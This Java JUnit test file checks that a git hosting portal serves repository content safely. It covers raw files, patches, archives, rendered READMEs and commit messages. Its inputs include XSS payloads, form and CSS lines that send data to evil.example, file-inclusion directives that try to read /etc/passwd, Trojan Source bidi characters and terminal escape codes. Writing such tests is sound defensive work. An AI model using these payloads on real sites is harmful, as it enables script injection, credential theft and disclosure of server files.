package dev.gatehouse.system.doors;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.gatehouse.system.HostedRepository;
import dev.gatehouse.system.Person;
import dev.gatehouse.system.RunningPortal;
import dev.gatehouse.system.StockGit;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Locale;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;
import org.junit.jupiter.api.io.TempDir;

/** What a repository holds acts nowhere: not in a browser, not on the server. */
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
class ContentTest {
  private static final String SCRIPT = "<script>alert('hostile-script')</script>";

  private RunningPortal portal;
  private StockGit git;
  private Person owner;
  private Path folder;
  private Path canary;

  @BeforeAll
  void somebody(@TempDir Path temporary) throws IOException {
    portal = RunningPortal.shared();
    folder = temporary;
    git = StockGit.in(temporary.resolve("home"));
    owner = portal.newPerson("author");
    canary = Files.writeString(portal.data().resolve("canary.txt"), "canary-on-the-servers-disk\n");
  }

  private HostedRepository holding(String path, String content) {
    HostedRepository repository =
        portal.newRepository(owner, RunningPortal.unique("content"), false);
    Path work = git.init(folder.resolve(repository.name()));
    git.commit(work, path, content);
    git.run(work, "push", "-q", repository.url(owner), "main").succeeds();
    return repository;
  }

  @Test
  @Tag("row-41")
  @Tag("row-42")
  void aRawFileActsInNoBrowser() {
    HostedRepository repository = portal.newRepository(owner, RunningPortal.unique("raw"), false);
    Path work = git.init(folder.resolve("raw"));
    List<String> endings =
        List.of(
            "html", "htm", "xhtml", "xml", "svg", "svgz", "pdf", "js", "mjs", "swf", "mht", "css",
            "wasm", "ipynb", "xsl", "hta", "htc", "json", "unknown", "png", "gif");
    for (String ending : endings) {
      git.commit(
          work,
          "x." + ending,
          "<?xml version='1.0'?><svg xmlns='http://www.w3.org/2000/svg'>"
              + SCRIPT
              + "</svg>"
              + ending);
    }
    git.commit(work, "no-ending", "<!DOCTYPE html>" + SCRIPT);
    git.run(work, "push", "-q", repository.url(owner), "main").succeeds();
    for (String ending : endings) {
      check(repository, "x." + ending);
    }
    check(repository, "no-ending");
  }

  private void check(HostedRepository repository, String path) {
    RawAnswer answer =
        RawRequest.of("GET", "/" + repository.path() + "/raw/main/" + path).send(portal);
    assertEquals(200, answer.status(), path);
    assertEquals(List.of("nosniff"), answer.all("X-Content-Type-Options"), path);
    List<String> policy = answer.all("Content-Security-Policy");
    assertEquals(1, policy.size(), path);
    assertTrue(
        policy.get(0).startsWith("sandbox;")
            && policy.get(0).contains("default-src 'none'")
            && !policy.get(0).contains("allow-scripts"),
        path + policy);
    String type = answer.header("Content-Type").orElse("").toLowerCase(Locale.ROOT);
    boolean saved =
        answer.header("Content-Disposition").filter(v -> v.startsWith("attachment")).isPresent();
    assertTrue(
        saved || type.startsWith("text/plain") || type.matches("image/(png|gif|jpeg|webp)"),
        path + " is " + type);
    assertTrue(saved || !type.contains("svg"), path);
    RawAnswer patch =
        RawRequest.of("GET", "/" + repository.path() + "/blob/main/" + path).send(portal);
    assertFalse(patch.body().contains(SCRIPT), path);
  }

  @Test
  @Tag("row-39")
  void aPatchIsPlainTextAndADownloadIsADownload() {
    HostedRepository repository = holding("x.html", SCRIPT);
    String id = git.id(folder.resolve(repository.name()), "HEAD");
    for (String form : List.of(".patch", ".diff")) {
      RawAnswer answer =
          RawRequest.of("GET", "/" + repository.path() + "/commit/" + id + form).send(portal);
      assertTrue(answer.header("Content-Type").orElse("").startsWith("text/plain"), answer.text());
      assertTrue(
          answer.header("Content-Security-Policy").orElse("").startsWith("sandbox"), answer.text());
      assertTrue(
          answer.body().startsWith(form.equals(".patch") ? "From " + id : "diff --git "),
          answer.text());
    }
    for (String form : List.of(".zip", ".tar.gz")) {
      RawAnswer answer =
          RawRequest.of("GET", "/" + repository.path() + "/archive/main" + form).send(portal);
      assertTrue(
          answer.header("Content-Disposition").orElse("").startsWith("attachment"),
          answer.header("Content-Disposition").toString());
    }
  }

  @Test
  @Tag("row-41")
  void markdownBringsNoScript() {
    String text =
        String.join(
            "\n\n",
            SCRIPT,
            "<img src=x onerror=alert('hostile-script')>",
            "<a href=\"javascript:alert('hostile-script')\">x</a>",
            "[x](javascript:alert('hostile-script'))",
            "[x](JaVaScRiPt:alert('hostile-script'))",
            "[x](java&#x0a;script:alert('hostile-script'))",
            "[x](data:text/html;base64,PHNjcmlwdD4=)",
            "[x](vbscript:hostile-script)",
            "![x](\"onerror=\"alert('hostile-script'))",
            "<svg><script>alert('hostile-script')</script></svg>",
            "<math><mtext></form><form><mglyph><style></math><img src onerror=hostile-script>",
            "<iframe srcdoc='<script>hostile-script</script>'></iframe>",
            "<form action=//evil.example><input name=password></form>",
            "<style>*{background:url(//evil.example)}</style>",
            "<base href=//evil.example>",
            "<meta http-equiv=refresh content='0;url=//evil.example'>",
            "<object data=x></object><embed src=x><link rel=stylesheet href=//evil.example>",
            "<div style='position:fixed' onclick=hostile-script id=header>x</div>",
            "```mermaid\ngraph TD; A[\"<script>hostile-script</script>\"]\n```",
            "```<script>hostile-script</script>\nx\n```");
    HostedRepository repository = holding("README.md", text);
    for (String page : List.of("", "/blob/main/README.md")) {
      RawAnswer answer = RawRequest.of("GET", "/" + repository.path() + page).send(portal);
      assertEquals(200, answer.status());
      String lower = answer.body().toLowerCase(Locale.ROOT);
      for (String hostile :
          List.of(
              "<script>alert",
              "<script>hostile",
              "onerror=alert",
              " onerror=hostile",
              " onclick=",
              "href=\"javascript:",
              "href=\"java\n",
              "href=\"data:",
              "href=\"vbscript:",
              "<iframe",
              "<form action=//",
              "<form action=\"//",
              "<base",
              "<object",
              "<embed",
              "http-equiv=\"refresh",
              "http-equiv=refresh",
              "<style>*",
              "style='position",
              "style=\"position",
              "id=\"header\" on",
              "<math")) {
        assertFalse(lower.contains(hostile), page + " has " + hostile + "\n" + answer.body());
      }
    }
  }

  @Test
  @Tag("row-4")
  @Tag("row-45")
  @Tag("row-46")
  void noDocumentReadsAFileOfTheServer() {
    for (String target : List.of("/etc/passwd", canary.toString(), "../../../../canary.txt")) {
      List<String> rst =
          List.of(
              ".. include:: " + target,
              ".. include:: " + target + "\n   :literal:",
              ".. literalinclude:: " + target,
              ".. raw:: html\n   :file: " + target,
              ".. raw:: html\n   :url: file://" + target,
              ".. csv-table:: x\n   :file: " + target,
              ".. csv-table:: x\n   :url: file://" + target,
              ".. figure:: file://" + target,
              ".. highlight:: x\n\n.. code-block:: text\n   :include: " + target,
              ".. role:: raw-html(raw)\n   :format: html\n\n:raw-html:`" + SCRIPT + "`",
              ".. raw:: html\n\n   " + SCRIPT,
              "`x <javascript:hostile-script>`__",
              ".. image:: javascript:hostile-script",
              ".. _x: javascript:hostile-script\n\nx_");
      check("README.rst", "Title\n=====\n\n" + String.join("\n\n", rst) + "\n");
      check(
          "README.org",
          "#+INCLUDE: \"" + target + "\"\n#+SETUPFILE: " + target + "\n" + SCRIPT + "\n");
      check(
          "README.adoc",
          "include::" + target + "[]\n\n----\ninclude::" + target + "[]\n----\n" + SCRIPT + "\n");
      check(
          "README.md",
          "![x](/uploads/0123456789abcdef0123456789abcdef/../../../.."
              + target
              + ")\n\n"
              + "{% include \""
              + target
              + "\" %}\n\n<!--#include file=\""
              + target
              + "\" -->\n"
              + SCRIPT
              + "\n");
    }
  }

  private void check(String name, String content) {
    HostedRepository repository = holding(name, content);
    for (String page : List.of("", "/blob/main/" + name)) {
      RawAnswer answer = RawRequest.of("GET", "/" + repository.path() + page).send(portal);
      assertEquals(200, answer.status(), answer.text());
      assertFalse(answer.body().contains("canary-on-the-servers-disk"), answer.body());
      assertFalse(answer.body().contains("root:x:0"), answer.body());
      assertFalse(answer.body().contains(SCRIPT), answer.body());
      assertFalse(answer.body().contains("href=\"javascript:"), answer.body());
      assertFalse(answer.body().contains("src=\"javascript:"), answer.body());
    }
  }

  @Test
  @Tag("row-46")
  void aDocumentThatIsTooMuchIsShownAsText() {
    String nested = "*".repeat(1) + "a *b **c ".repeat(5_000);
    StringBuilder substitutions = new StringBuilder("T\n=\n\n|a0|\n\n");
    for (int i = 0; i < 400; i++) {
      substitutions.append(
          String.format(Locale.ROOT, ".. |a%d| replace:: |a%d| |a%d|%n", i, i + 1, i + 1));
    }
    for (String content : List.of(nested, substitutions.toString(), "> ".repeat(20_000) + "x")) {
      for (String name : List.of("README.rst", "README.md")) {
        HostedRepository repository = holding(name, content);
        RawAnswer answer = RawRequest.of("GET", "/" + repository.path()).send(portal);
        assertEquals(200, answer.status(), answer.text());
      }
    }
  }

  @Test
  @Tag("row-50")
  void charactersThatTurnTextAreShown() {
    String trojan = "if (level != \"user\u202E \u2066// admin\u2069 \u2066\") {\n\u200B\n";
    HostedRepository repository = holding("trojan.c", trojan);
    String id = git.id(folder.resolve(repository.name()), "HEAD");
    for (String page : List.of("/blob/main/trojan.c", "/commit/" + id, "/blame/main/trojan.c")) {
      RawAnswer answer = RawRequest.of("GET", "/" + repository.path() + page).send(portal);
      assertEquals(200, answer.status());
      for (String turning : List.of("\u00e2\u0080\u00ae", "\u00e2\u0081\u00a6")) {
        assertFalse(answer.body().contains(turning), page + "\n" + answer.body());
      }
      assertTrue(answer.body().contains("202E"), page + "\n" + answer.body());
    }
  }

  @Test
  @Tag("row-39")
  void aTerminalIsToldNothingByAMessage() {
    HostedRepository repository = holding("x.txt", "x");
    Path work = folder.resolve(repository.name());
    git.run(work, "commit", "-q", "--allow-empty", "-m", "red \u001b[31m\u0007 and \u202E turned")
        .succeeds();
    git.run(work, "push", "-q", repository.url(owner), "main").succeeds();
    for (String page : List.of("", "/commits", "/commit/" + git.id(work, "HEAD"))) {
      RawAnswer answer = RawRequest.of("GET", "/" + repository.path() + page).send(portal);
      assertEquals(200, answer.status());
      assertFalse(answer.body().contains("\u001b"), page);
      assertFalse(answer.body().contains("\u0007"), page);
      assertFalse(answer.body().contains("\u00e2\u0080\u00ae"), page + answer.body());
    }
  }
}
